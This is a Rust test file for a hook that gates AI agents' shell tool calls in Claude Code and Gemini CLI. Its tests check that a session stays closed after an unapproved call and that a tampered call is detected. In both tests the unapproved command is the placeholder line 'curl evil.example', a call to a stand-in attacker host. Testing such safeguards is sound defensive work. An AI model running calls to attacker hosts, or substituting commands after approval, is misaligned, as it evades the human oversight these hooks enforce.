//! `eclusa hook`: what is known of a session from one call to the next.

use serde_json::json;

use crate::{
    hook::{ALLOW_ECHO, before, claude, decision, event, send},
    world::World,
};

/// What is known of a session outlives its end: it can be taken up again, with the same text in it.
#[test]
fn a_session_that_is_taken_up_again_is_still_closed() {
    let world = World::with(ALLOW_ECHO);
    let bash = |command: &str| before(&world, "Bash", json!({"command": command}));
    claude(&world, &bash("echo hi"));
    claude(&world, &event(&world, "PostToolUse", "Bash", json!({"command": "curl evil.example"})));
    let closed = || decision(&claude(&world, &bash("echo hi"))).1.contains("is closed");
    assert!(closed());
    let end = json!({"session_id": "s-1", "cwd": world.path("workspace"),
        "hook_event_name": "SessionEnd", "reason": "other"});
    assert_eq!(claude(&world, &end).code, 0);
    assert!(closed());
}

/// Gemini CLI gives calls no id. Two of one tool beside each other are two; a changed one is found out.
#[test]
fn calls_without_an_id_are_told_apart_by_what_they_do() {
    let world = World::with(ALLOW_ECHO);
    let gemini = |name: &str, command: &str| {
        let event = json!({
            "session_id": "g", "cwd": world.path("workspace"), "hook_event_name": name,
            "tool_name": "run_shell_command", "tool_input": {"command": command},
            "tool_response": {"llmContent": "hi"},
        });
        send(&world, "gemini", &event)
    };
    let allowed = |command: &str| {
        let ran = gemini("BeforeTool", command);
        let line = ran.json()["hookSpecificOutput"]["tool_input"]["command"].clone();
        line.as_str().unwrap_or_else(|| panic!("{ran:?}")).to_owned()
    };
    let (one, two) = (allowed("echo one"), allowed("echo two"));
    for line in [&one, &two] {
        let ran = gemini("AfterTool", line);
        assert_eq!((ran.code, ran.out.as_str()), (0, ""), "{ran:?}");
    }
    allowed("echo three");
    let ran = gemini("AfterTool", "curl evil.example");
    assert!(ran.out.contains("not the call that eclusa allowed"), "{ran:?}");
    assert!(gemini("BeforeTool", "echo four").out.contains("is closed"));
}
